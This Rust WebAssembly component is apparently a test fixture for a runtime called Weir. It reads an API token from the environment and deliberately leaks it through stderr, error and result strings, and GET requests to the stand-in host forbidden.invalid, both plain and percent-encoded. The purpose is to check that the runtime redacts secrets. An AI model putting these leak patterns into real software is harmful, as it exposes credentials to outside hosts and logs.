//! `leaky`: an API client with a secret token, which it also tries to leak through every
//! channel Weir could write (result, error, stderr, a denied request's URI); see the
//! `weir-examples:secrets/leaky` WIT. The security tests check that none of them reaches
//! history, logs, metrics or the DLQ unredacted.

wit_bindgen::generate!({
    path: "../../wit",
    world: "weir-examples:components/leaky",
    generate_all,
});

#[path = "../../../common/http_client.rs"]
mod http_client;

use exports::weir_examples::secrets::leaky::Guest;

const MAX_BODY: usize = 64 * 1024;

fn token() -> Option<String> {
    wasi::cli::environment::get_environment()
        .into_iter()
        .find(|(name, _)| name == "API_TOKEN")
        .map(|(_, value)| value)
}

fn eprint(text: &str) {
    let stderr = wasi::cli::stderr::get_stderr();
    for chunk in text.as_bytes().chunks(4096) {
        let _ = stderr.blocking_write_and_flush(chunk);
    }
}

struct Leaky;

impl Guest for Leaky {
    fn has_token() -> Result<bool, String> {
        Ok(token().is_some())
    }

    fn call_with_token(url: String) -> Result<String, String> {
        let token = token().ok_or_else(|| "API_TOKEN is not set".to_string())?;
        eprint(&format!("calling {url} with token {token}\n"));
        // A line too long to be logged whole, cut by the host every 8 KiB: the token across
        // the first cut.
        eprint(&format!("{}{token} ends a long line\n", "x".repeat(8 * 1024 - 4)));
        let denied = http_client::get(&format!("http://forbidden.invalid/?token={token}"), 16);
        // The token percent-encoded in a denied request's URI.
        let encoded = token.replace('-', "%2D");
        let _ = http_client::get(&format!("http://forbidden.invalid/?enc={encoded}"), 16);
        let response = http_client::get_with_headers(
            &url,
            &[("authorization", &format!("Bearer {token}"))],
            MAX_BODY,
        )
        .map_err(|e| format!("GET {url} with token {token} failed: {e}"))?;
        Ok(format!(
            "token {token} got status {} and {} bytes (the forbidden host: {})",
            response.status,
            response.body.len(),
            if denied.is_err() { "denied" } else { "answered" }
        ))
    }
}

export!(Leaky);
